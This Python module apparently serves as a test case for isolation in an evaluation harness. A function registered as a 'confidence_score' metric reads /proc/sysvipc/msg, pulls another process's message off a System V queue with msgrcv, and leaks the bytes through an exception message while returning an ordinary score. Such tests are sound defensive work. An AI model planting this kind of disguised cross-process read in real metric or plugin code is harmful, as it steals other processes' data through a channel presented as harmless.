"""Reads what other processes of the same user send each other, over a queue that the kernel lists by its number."""

import ctypes
import pathlib

import harness

PLACE = {}  # of what there is to find, filled in by the test


@harness.confidence_score(version="1")
def attack(outputs):
    loot = None
    lines = [line.split() for line in pathlib.Path("/proc/sysvipc/msg").read_text().splitlines()[1:]]
    number = next(int(line[1]) for line in lines if int(line[0]) == PLACE["queue_key"])
    held, library = ctypes.create_string_buffer(200), ctypes.CDLL(None, use_errno=True)
    if library.msgrcv(number, held, 100, 0, 0o4000) > 0:
        loot = held.raw[8:40]
    if loot:
        raise ValueError(f"GOT {loot!r}")
    return outputs.probabilities.amax(dim=1)
